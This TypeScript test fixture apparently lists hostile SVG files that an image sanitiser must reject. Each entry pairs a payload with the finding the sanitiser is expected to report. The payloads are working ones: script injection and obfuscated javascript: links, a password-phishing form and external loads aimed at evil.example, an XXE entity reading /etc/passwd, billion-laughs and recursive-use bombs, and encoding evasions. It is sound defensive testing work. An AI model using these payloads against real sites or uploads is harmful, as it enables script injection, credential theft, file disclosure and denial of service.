import { gzipSync } from 'node:zlib'

/** An SVG of 10 × 10 with something in it. */
export const svgWith = (inner: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${attributes}>${inner}</svg>`

const entities = Array.from({ length: 10 }, (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`).join(
  '',
)
const groups = Array.from(
  { length: 10 },
  (_, index) => `<g id="g${index + 1}">${`<use href="#g${index}"/>`.repeat(10)}</g>`,
).join('')
const patterns = Array.from(
  { length: 8 },
  (_, index) =>
    `<pattern id="p${index + 1}" width="1" height="1">${`<rect width="9" height="9" fill="url(#p${index})"/>`.repeat(10)}</pattern>`,
).join('')
const image = (href: string): string => svgWith(`<image width="9" height="9" href="${href}"/>`)
const css = (text: string): string => svgWith(`<style>${text}</style><path d="M0 0h9v9z"/>`)
const fill = (text: string): string => svgWith(`<path d="M0 0h9v9z" fill="${text}"/>`)
const inner = svgWith('<script>alert(1)</script>')

/** SVGs that must not be published, and what is said about each: what it contains, or the kind of its problem. */
export const hostileSvgs: Readonly<Record<string, readonly [content: string | Buffer, says: string]>> = {
  'a script': [inner, '<script>'],
  'a script in CDATA': [svgWith('<script><![CDATA[alert(1)]]></script>'), '<script>'],
  'a script with another prefix': [
    svgWith('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
    '<s:script>',
  ],
  'a script of HTML': [svgWith('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'), '<h:script>'],
  'HTML that takes over the name `path`': [
    svgWith('<path xmlns="http://www.w3.org/1999/xhtml"><script/></path>'),
    '<path>',
  ],
  'a script within what a drawing program writes': [
    svgWith(
      '<i:x xmlns:i="http://www.inkscape.org/namespaces/inkscape"><script xmlns="http://www.w3.org/2000/svg"/></i:x>',
    ),
    '<i:x>',
  ],
  'a script of another host': [svgWith('<script href="https://evil.example/a.js"/>'), '<script>'],
  onload: [svgWith('', ' onload="alert(1)"'), 'onload'],
  'onbegin of an animation': [svgWith('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'), '<animate>'],
  'onclick of a shape': [svgWith('<path d="M0 0" onclick="alert(1)"/>'), 'onclick'],
  'a handler of XML events': [
    svgWith('<path d="M0 0" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events"/>'),
    'ev:event',
  ],
  'foreignObject with a form': [
    svgWith(
      '<foreignObject width="9" height="9"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input type="password"/></form></foreignObject>',
    ),
    '<foreignObject>',
  ],
  'an iframe': [svgWith('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>'), '<iframe>'],
  'a link that runs a script': [svgWith('<a href="javascript:alert(1)"><path d="M0 0"/></a>'), '<a>'],
  'a script as the target of use': [svgWith('<use href="javascript:alert(1)"/>'), 'href="javascript:alert(1)"'],
  'the same with entities': [svgWith('<use href="&#106;ava&#x73;cript:alert(1)"/>'), 'href="javascript:alert(1)"'],
  'the same with tabs and capitals': [svgWith('<use href="JAVA&#9;Script:x"/>'), 'href="JAVA Script:x"'],
  'the same with xlink': [svgWith('<use xlink:href="javascript:x"/>'), 'xlink:href="javascript:x"'],
  'the same with another prefix': [
    svgWith('<use l:href="javascript:x" xmlns:l="http://www.w3.org/1999/xlink"/>'),
    'xlink:href="javascript:x"',
  ],
  'use from another host': [
    svgWith('<use href="https://evil.example/a.svg#a"/>'),
    'href="https://evil.example/a.svg#a"',
  ],
  'use from another file': [svgWith('<use href="a.svg#a"/>'), 'href="a.svg#a"'],
  'an image from another host': [image('https://evil.example/a.png'), 'href="https://evil.example/a.png"'],
  'an image without a scheme': [image('//evil.example/a.png'), 'href="//evil.example/a.png"'],
  'feImage from another host': [svgWith('<filter><feImage href="https://evil.example/a.png"/></filter>'), '<feImage>'],
  'HTML in a data URL': [image('data:text/html;base64,PHNjcmlwdD4='), 'href="data:text/html;base64,PHNjcmlwdD4="'],
  'an SVG in a data URL': [image('data:image/svg+xml;base64,PHN2Zz4='), 'href="data:image/svg+xml;base64,PHN2Zz4="'],
  'an SVG in a data URL that is not encoded': [
    image('data:image/svg+xml,&lt;svg/&gt;'),
    'href="data:image/svg+xml,<svg/>"',
  ],
  'a picture in a data URL of use': [
    svgWith('<use href="data:image/png;base64,AA=="/>'),
    'href="data:image/png;base64,AA=="',
  ],
  'an animation that sets href': [
    svgWith('<use href="#a"><set attributeName="href" to="javascript:alert(1)"/></use>'),
    '<set>',
  ],
  'an animation of a link': [
    svgWith('<use href="#a"><animate attributeName="href" values="javascript:alert(1)"/></use>'),
    '<animate>',
  ],
  'url() of another host in an attribute': [
    fill('url(https://evil.example/a.svg#a)'),
    'fill="url(https://evil.example/a.svg#a)"',
  ],
  'url() with quotes and spaces': [
    fill('url( &quot;https://evil.example/&quot; )'),
    'fill="url( "https://evil.example/" )"',
  ],
  'url() that is written with an escape': [fill('\\75rl(https://evil.example/)'), 'fill="\\"'],
  'URL() in a style attribute': [
    svgWith('<path d="M0 0" style="fill:URL(//evil.example/)"/>'),
    'style="URL(//evil.example/)"',
  ],
  'url() within another function': [css('a{width:calc(1px + url(//evil.example/))}'), 'url(//evil.example/)'],
  'a cursor from another host': [
    svgWith('<path d="M0 0" cursor="url(//evil.example/a.cur), auto"/>'),
    'cursor="url(//evil.example/a.cur)"',
  ],
  '@import': [css('@import "https://evil.example/a.css";'), '@import'],
  '@IMPORT after a comment': [css('/* */@IMPORT"//evil.example/a.css";'), '@IMPORT'],
  '@import in CDATA': [css('<![CDATA[@import url(//evil.example/a.css);]]>'), '@import'],
  '@import cut by an element': [css('@im<desc>x</desc>port "//evil.example/a.css";'), '<?…?>'],
  '@import cut by a comment': [css('@im<!-- -->port "//evil.example/a.css";'), '<?…?>'],
  '@import with an escape': [css('@\\69mport "//evil.example/a.css";'), '\\'],
  '@font-face': [css('@font-face{font-family:a;src:url(//evil.example/a.woff2)}'), '@font-face'],
  'image-set()': [css('path{mask:image-set("//evil.example/a.png" 1x)}'), 'image-set("//evil.example/a.png" 1x)'],
  'src()': [css('path{mask:src("//evil.example/a.png")}'), 'src("//evil.example/a.png")'],
  'a stylesheet of another host': [`<?xml-stylesheet href="https://evil.example/a.css"?>${svgWith('')}`, '<?…?>'],
  'a stylesheet after the picture': [`${svgWith('')}<?xml-stylesheet href="//evil.example/a.css"?>`, '<?…?>'],
  'an instruction within': [svgWith('<?php echo 1 ?>'), '<?…?>'],
  'xml:base': [svgWith('<use href="#a" xml:base="https://evil.example/"/>'), 'xml:base'],
  'an audio': [svgWith('<audio src="//evil.example/a.mp3"/>'), '<audio>'],
  'an element without a namespace': [svgWith('<path xmlns=""/>'), '<path>'],
  'a DOCTYPE with an entity': [
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svgWith('<text>&x;</text>')}`,
    '<!DOCTYPE>',
  ],
  'a DOCTYPE with a billion laughs': [
    `<!DOCTYPE svg [<!ENTITY e0 "ha">${entities}]>${svgWith('<text>&e10;</text>')}`,
    '<!DOCTYPE>',
  ],
  'ten billion shapes by use': [svgWith(`<g id="g0"><path d="M0 0"/></g>${groups}<use href="#g10"/>`), 'endless'],
  'a hundred million shapes by patterns': [
    svgWith(`${patterns}<rect width="9" height="9" fill="url(#p8)"/>`),
    'endless',
  ],
  'a shape that draws itself': [svgWith('<g id="a"><use href="#a"/></g>'), 'endless'],
  'the same with another spelling of its id': [svgWith('<g id="a"><use href="#%61"/></g>'), 'endless'],
  'too many shapes': [svgWith('<path d="M0 0"/>'.repeat(20_001)), 'endless'],
  'deep nesting': [svgWith('<g>'.repeat(5000) + '</g>'.repeat(5000)), 'damaged'],
  'an HTML file that calls itself SVG': [
    '<!doctype html><html><body onload="alert(1)"><svg viewBox="0 0 9 9" width="9" height="9"></svg><br></body></html>',
    'damaged',
  ],
  'an XHTML file': [
    '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/></html>',
    'damaged',
  ],
  'an SVG without its namespace': ['<svg viewBox="0 0 9 9"><script>alert(1)</script></svg>', 'damaged'],
  'an SVG that is cut off': [inner.slice(0, -10), 'damaged'],
  'UTF-7': [`<?xml version="1.0" encoding="UTF-7"?>${svgWith('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')}`, 'damaged'],
  'another encoding': [`<?xml version="1.0" encoding='ISO-2022-JP'?>${svgWith('')}`, 'damaged'],
  'UTF-16': [Buffer.from(`\uFEFF${inner}`, 'utf16le'), 'format'],
  'bytes that are not UTF-8': [Buffer.from(svgWith('<title>caf\u00E9</title>'), 'latin1'), 'damaged'],
  'a compressed SVG': [gzipSync(inner), 'format'],
}
